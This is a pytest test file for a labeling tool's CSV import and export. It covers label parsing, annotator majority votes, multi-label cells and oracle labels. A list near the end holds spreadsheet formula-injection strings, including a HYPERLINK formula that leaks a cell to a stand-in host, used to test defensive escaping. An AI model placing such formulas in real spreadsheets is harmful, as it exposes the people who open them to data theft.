from __future__ import annotations

import csv
import io
from functools import partial

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from PIL import Image

from dpal.data.labeling_state import write_labels
from dpal.data.sources import Role, open_source
from dpal.errors import LabelError, LabelsPending
from dpal.labeling.file import FileLabeler, accept_labels
from dpal.labeling.oracle import OracleLabeler
from dpal.labels import Task
from tests.conftest import owner_reads, write_blobs

QUERY = ["a", "b", "c"]
NAMES = ["cat", "dog"]


def answers(tmp_path, text: str):
    path = tmp_path / "labels.csv"
    path.write_text(text, encoding="utf-8")
    return path


def accept(path):
    return accept_labels(path, QUERY, classes=2, class_names=NAMES).labels


def test_numbers_and_names_are_understood(tmp_path):
    path = answers(tmp_path, "\ufeffid,label,comment\nb, dog ,x\na,0,\nc,1,\n")
    assert accept(path) == {"a": 0, "b": 1, "c": 1}


@pytest.mark.parametrize(("names", "number"), [("12", "0"), ("12345", "02"), ("024", "1")])
def test_a_class_that_is_called_by_a_number_is_named(tmp_path, names, number):
    def labels(said):
        path = answers(tmp_path, f"id,label\na,{said}\n")
        return accept_labels(path, ["a"], classes=len(names), class_names=list(names)).labels

    assert labels(names[1]) == {"a": 1}
    with owner_reads(LabelError, match="row 2 "):
        labels(number)


@pytest.mark.parametrize("label", ["dog", "dog;cat"])
def test_a_cell_that_no_column_has_is_refused(tmp_path, label):
    """A comma between labels, which would be lost behind it; blank ones are a spreadsheet's."""
    task = Task.MULTI_LABEL if ";" in label else Task.SINGLE_LABEL
    read = partial(accept_labels, query=["a"], classes=2, class_names=NAMES, task=task)
    assert read(answers(tmp_path, f"id,label\na,{label},,\n")).labels
    with owner_reads(LabelError, match="row 2 has more"):
        read(answers(tmp_path, f"id,label\na,{label},cat\n"))


@pytest.mark.parametrize(
    "text", ["id,label,text,label\na,cat,x,dog\n", "id,label,text,id\na,cat,x,b\nb,dog,y,a\n"]
)
def test_a_column_that_is_there_twice_is_refused(tmp_path, text):
    with owner_reads(LabelError, match="once each"):
        accept(answers(tmp_path, text))


def test_long_texts_come_back_and_rows_are_those_of_a_spreadsheet(tmp_path):
    long = "x" * 140_000
    assert accept(answers(tmp_path, f'id,label,text\na,0,"{long}"\nb,1,"1\n2"\nc,1,\n'))
    with owner_reads(LabelError, match="row 3 "):
        accept(answers(tmp_path, 'id,label,text\na,0,"1\n2\n3"\nb,7,x\nc,1,\n'))


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        ("id,label\na,0\nb,1\nc,1\nz,0\n", "row 5 .*not asked"),
        ("id,label\na,0\nb,1\nc,1\na,0\n", "row 5 .*second time"),
        ("id,label\na,0\nb,1\nc,1\na,1\n", "row 5 .*another label"),
        ("id,label\na,2\nb,1\nc,-1\n", r"rows 2, 4 .*no class \(0 to 1"),
        ("id,label\na,\nb,1\nc,1\n", r"1 of 3 ids .*row 2 of query\.csv"),
        ("id,label\na,0\nb,1.0\nc,1\n", "row 3 .*no class"),
        ("id,label\na,0\n", r"2 of 3 ids have no label, rows 3, 4 of query\.csv"),
        ("id,label\na,0\n\n\nb,7\nc,1\n", "row 5 .*no class"),
        ("name,label\na,0\n", "needs the columns id and label"),
        ("", "needs the columns id and label"),
    ],
)
def test_what_does_not_fit_is_refused_with_row_numbers(tmp_path, text, sentence):
    with owner_reads(LabelError, match=sentence):
        accept(answers(tmp_path, text))


def test_opinions_of_several_people_are_merged_into_one_label(tmp_path):
    """Each record's by its own opinions; it does not matter how many others have."""
    rows = ["a,cat,ann", "a,1,bob", "a,0,eve", "b,1,ann", "b,dog,bob", "c,0,ann"]
    path = answers(tmp_path, "\n".join(["id,label,annotator", *rows]))
    assert accept(path) == {"a": 0, "b": 1, "c": 0}
    without = answers(tmp_path, "\n".join(["id,label,annotator", *rows[:1], *rows[3:]]))
    assert accept(without) == {"a": 0, "b": 1, "c": 0}


def test_what_each_person_said_is_kept_beside_the_label(tmp_path):
    text = "id,label,annotator\na,cat,ann\na,dog,bob\na,dog,eve\nb,cat,ann\nc,cat,\n"
    accepted = accept_labels(answers(tmp_path, text), QUERY, classes=2, class_names=NAMES)
    said = {tuple((one.annotator, one.said) for one in given) for given in accepted.opinions}
    assert said == {(("ann", 0), ("bob", 1), ("eve", 1)), (("ann", 0),), (("", 0),)}


def test_each_of_several_labels_is_decided_by_more_than_half(tmp_path):
    text = "id,label,annotator\na,cat;dog,ann\na,cat,bob\na,none,eve\n"
    path = answers(tmp_path, text)
    told = accept_labels(path, ["a"], classes=2, class_names=NAMES, task=Task.MULTI_LABEL)
    assert told.labels == {"a": (1, 0)}


@pytest.mark.parametrize(
    ("rows", "sentence"),
    [
        (["a,0,ann", "a,1,bob", "b,0,ann", "c,0,ann"], "row 3 .*person decide"),
        (["a,0,ann", "a,1,ann", "b,0,ann", "c,0,ann"], "row 3 .*another label"),
        (["a,0,ann", "a,0,ann", "b,0,ann", "c,0,ann"], "row 3 .*second time"),
        (["a,0,ann", "a,1,", "a,0,", "b,0,ann", "c,0,ann"], "row 4 .*another label"),
        (["a,0,ann", "a,7,bob", "b,0,ann", "c,0,ann"], "row 3 .*no class"),
    ],
)
def test_opinions_without_a_majority_or_a_person_are_refused(tmp_path, rows, sentence):
    path = answers(tmp_path, "\n".join(["id,label,annotator", *rows]))
    with owner_reads(LabelError, match=sentence):
        accept(path)


def test_many_bad_rows_are_counted(tmp_path):
    text = "id,label\n" + "".join(f"z{i},0\n" for i in range(9))
    with owner_reads(LabelError, match="rows 2, 3, 4, 5, 6 and 4 more .*merged"):
        accept(answers(tmp_path, text))


def test_a_missing_or_unreadable_file_is_said(tmp_path):
    with owner_reads(LabelError, match="does not exist"):
        accept(tmp_path / "none.csv")
    binary = tmp_path / "labels.csv"
    binary.write_bytes(b"\x89PNG\r\n\xff\xfe")
    with pytest.raises(LabelError):
        accept(binary)


def image_pool(path, count=6):
    def png(i):
        stream = io.BytesIO()
        Image.fromarray(np.full((16, 16), 40 * i, dtype=np.uint8)).save(stream, format="PNG")
        return stream.getvalue()

    table = pa.table(
        {
            "id": [f"../odd id {i}" for i in range(count)],
            "image": pa.array([png(i) for i in range(count)]),
        }
    )
    pq.write_table(table, path)
    return open_source(path, Role.POOL, label_column="label")


def test_a_query_shows_pictures_and_waits(tmp_path):
    source = image_pool(tmp_path / "pool.parquet")
    asked = ["../odd id 4", "../odd id 1"]
    labeler = FileLabeler(source, tmp_path / "query", tmp_path / "labels.parquet", "dpal label x")
    for _ in range(2):  # asking again repeats the message, not the work
        with pytest.raises(LabelsPending, match=r"query\.csv; .*dpal label x"):
            labeler.label(asked)
    with (tmp_path / "query" / "query.csv").open(newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [row["id"] for row in rows] == asked
    assert [row["label"] for row in rows] == ["", ""]
    shown = [np.asarray(Image.open(tmp_path / "query" / row["image"]))[0, 0] for row in rows]
    assert shown == [160, 40]
    assert all(p.stat().st_mode & 0o077 == 0 for p in (tmp_path / "query").rglob("*.*"))
    write_labels({"../odd id 4": 1, "../odd id 1": 0}, tmp_path / "labels.parquet")
    assert labeler.label(asked) == {"../odd id 4": 1, "../odd id 1": 0}


def test_the_oracle_answers_from_the_pool(tmp_path):
    path = write_blobs(tmp_path / "pool.parquet", 50, seed=1)
    source = open_source(path, Role.POOL, label_column="label")
    truth = dict(
        zip(*pq.read_table(path, columns=["id", "label"]).to_pydict().values(), strict=True)
    )
    asked = ["r-00007", "r-00003"]
    assert OracleLabeler(source, 3).label(asked) == {name: truth[name] for name in asked}
    with owner_reads(LabelError, match="a selected record is not in the pool"):
        OracleLabeler(source, 3).label([*asked, "unknown"])
    with owner_reads(LabelError, match="from 0 to 0"):
        OracleLabeler(source, 1).label([name for name, label in truth.items() if label == 2][:1])


def test_an_oracle_without_labels_says_what_to_do(tmp_path):
    path = write_blobs(tmp_path / "pool.parquet", 5, seed=1, labeled=False)
    source = open_source(path, Role.POOL, label_column="label")
    with owner_reads(LabelError, match=r"set labeler\.kind: file"):
        OracleLabeler(source, 3).label(["r-00001"])


def accept_several(path, names=("rain", "dusk", "a;b")):
    return accept_labels(path, QUERY, classes=3, class_names=names, task=Task.MULTI_LABEL).labels


def test_several_labels_stand_in_one_cell(tmp_path):
    path = answers(tmp_path, "id,label\na,dusk; rain\nb, None \nc,2;0\n")
    assert accept_several(path) == {"a": (1, 1, 0), "b": (0, 0, 0), "c": (1, 0, 1)}
    odd = answers(tmp_path, "id,label\na,a;b\nb,1\nc,none\n")
    assert accept_several(odd) == {"a": (0, 0, 1), "b": (0, 1, 0), "c": (0, 0, 0)}
    named = accept_several(odd, names=("none", "b", "a;b"))
    assert named["c"] == (1, 0, 0)  # a label of that name goes first


@pytest.mark.parametrize(
    ("cell", "sentence"),
    [
        ("3", "row 3 .*labels .0 to 2"),
        ("rain;fog", "row 3 .*no labels"),
        ("rain;", "row 3 .*no labels"),
        ("1;1", "row 3 .*no labels"),
        ("none;rain", "row 3 .*no labels"),
        ("", "1 of 3 ids .*row 3"),
    ],
)
def test_an_empty_cell_is_not_a_record_without_labels(tmp_path, cell, sentence):
    with owner_reads(LabelError, match=sentence):
        accept_several(answers(tmp_path, f"id,label\na,rain\nb,{cell}\nc,2;0\n"))


def test_the_oracle_answers_with_lists(tmp_path):
    path, rows = tmp_path / "pool.parquet", [[0, 1], [1, 1], [0, 0], None]
    columns = {"id": list("abcd"), "label": pa.array(rows, pa.list_(pa.int8()))}
    columns["features"] = pa.array([[1.0]] * 4, pa.list_(pa.float32()))
    pq.write_table(pa.table(columns), path)
    source = open_source(path, Role.POOL, label_column="label")
    assert OracleLabeler(source, 2).label(["c", "b"]) == {"c": (0, 0), "b": (1, 1)}
    for classes, asked in ((2, "d"), (3, "a")):
        with owner_reads(LabelError, match=f"list of {classes} labels, each 0 or 1"):
            OracleLabeler(source, classes).label([asked])


HOSTILE = [
    '=HYPERLINK("http://x/?leak="&A1,"click")', "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "'plain",
    "'=1+1", "=1+1", "''", "a;=cmd", 'say "no"', "comma, in it", "two\nlines", " =spaced",
]  # fmt: skip


def test_an_id_is_no_formula_and_comes_back(tmp_path):
    """Through the file that a person fills in, whoever made the ids."""
    columns = {"id": HOSTILE, "features": [[1.0]] * len(HOSTILE)}
    pq.write_table(pa.table(columns), tmp_path / "pool.parquet")
    source = open_source(tmp_path / "pool.parquet", Role.POOL, label_column="label")
    labeler = FileLabeler(source, tmp_path / "query", tmp_path / "labels.parquet", "dpal label x")
    with pytest.raises(LabelsPending):
        labeler.label(HOSTILE)
    with (tmp_path / "query" / "query.csv").open(newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    assert not any(row["id"].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows)
    # In a country whose spreadsheets separate by semicolons, too.
    with (tmp_path / "query" / "query.csv").open(newline="", encoding="utf-8") as stream:
        cells = [cell for line in csv.reader(stream, delimiter=";") for cell in line]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    with (tmp_path / "answers.csv").open("w", newline="", encoding="utf-8") as stream:
        writer = csv.DictWriter(stream, ["id", "label"])
        writer.writeheader()
        for number, row in enumerate(rows):
            writer.writerow({"id": row["id"], "label": str(number % 3)})
    found = accept_labels(tmp_path / "answers.csv", HOSTILE, classes=3, class_names=())
    assert found.labels == {name: number % 3 for number, name in enumerate(HOSTILE)}


@pytest.mark.parametrize("digits", ["9" * 5000, "0" * 5000 + "7", "1e5", "٣", "3" * 19])
def test_a_label_of_any_number_of_digits_is_a_sentence(tmp_path, digits):
    with owner_reads(LabelError, match="row 3 .*no class"):
        accept(answers(tmp_path, f"id,label\na,0\nb,{digits}\nc,1\n"))


def test_zeros_before_a_class_number_are_none(tmp_path):
    assert accept(answers(tmp_path, "id,label\na,0\nb,0001\nc,1\n")) == {"a": 0, "b": 1, "c": 1}
